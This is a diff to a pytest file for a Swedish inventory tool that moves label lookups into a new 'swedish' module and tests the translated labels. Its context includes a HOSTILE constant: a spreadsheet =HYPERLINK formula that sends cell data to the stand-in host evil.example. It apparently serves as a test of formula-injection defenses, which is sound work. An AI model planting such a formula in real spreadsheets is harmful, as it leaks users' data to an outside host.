@@ -8,7 +8,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from inventory import changes, outputs, stats
+from inventory import changes, outputs, stats, swedish
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Näringslivsprogram")'
 
@@ -86,7 +86,7 @@ def test_people_read_swedish_words_and_programs_read_codes(tmp_path: Path) -> No
         "regional_category": ["rus", None], "found_via": ["search", None], "crawl_status": ["found", "weird"],
         "review_reasons": ["is_program 0.58; sustainability 0.46", None],
     })  # fmt: skip
-    people = outputs.for_people(table)
+    people = swedish.for_people(table)
     assert people.iloc[0].tolist() == ["Program hittat", "Tillväxtprogram/-strategi",
                                        "Regional utvecklingsstrategi (RUS)", "Sökrutan", "Kandidat hittad",
                                        "Är ett program 0,58; Hållbarhet betonas 0,46"]
@@ -97,10 +97,10 @@ def test_people_read_swedish_words_and_programs_read_codes(tmp_path: Path) -> No
     # Every word in the glossary, next to its code.
     glossary = outputs.glossary({"Inventering": people})
     pairs = {(section, term, code) for section, _, term, code, _ in glossary.itertuples(index=False)}
-    for column, section in outputs.VALUE_SECTIONS.items():
-        for code, word in outputs.VALUE_LABELS[column].items():
+    for column, section in swedish.VALUE_SECTIONS.items():
+        for code, word in swedish.VALUE_LABELS[column].items():
             assert (section, word, code) in pairs, (section, code)
-    for code, word in outputs.REVIEW_LABELS.items():
+    for code, word in swedish.REVIEW_LABELS.items():
         assert ("Skäl att granska", word, code) in pairs
 
 
